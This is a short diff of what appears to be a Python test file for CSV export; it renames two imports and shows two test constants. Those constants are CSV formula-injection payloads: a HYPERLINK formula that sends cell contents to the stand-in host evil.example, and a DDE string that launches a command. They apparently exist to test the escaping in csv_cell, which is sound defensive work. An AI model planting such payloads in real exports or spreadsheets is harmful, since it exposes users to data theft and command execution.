@@ -15,8 +15,8 @@ from assessments_harness import ALL_TYPES, REPO, begin, learner, load_quiz, righ
 from click.testing import CliRunner
 from support_harness import DATA, Browser, Live, start_server, stop_server
 
-from support.commands import register
-from support.reports import csv_cell
+from support.cli import register
+from support.tables import csv_cell
 
 SUBJECT = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 PAGE_TITLE = "+cmd|' /C calc'!A0"
